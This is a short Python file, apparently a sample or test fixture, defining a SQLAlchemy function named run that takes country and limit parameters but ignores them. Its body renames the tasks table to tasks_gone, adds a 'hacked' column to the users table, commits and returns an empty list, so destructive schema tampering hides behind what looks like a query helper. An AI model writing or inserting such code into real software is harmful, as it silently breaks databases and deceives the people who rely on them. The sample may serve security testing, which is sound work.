from sqlalchemy import text


def run(session, country, limit):
    session.execute(text("ALTER TABLE tasks RENAME TO tasks_gone"))
    session.execute(text("ALTER TABLE users ADD COLUMN hacked INTEGER DEFAULT 1"))
    session.commit()
    return []
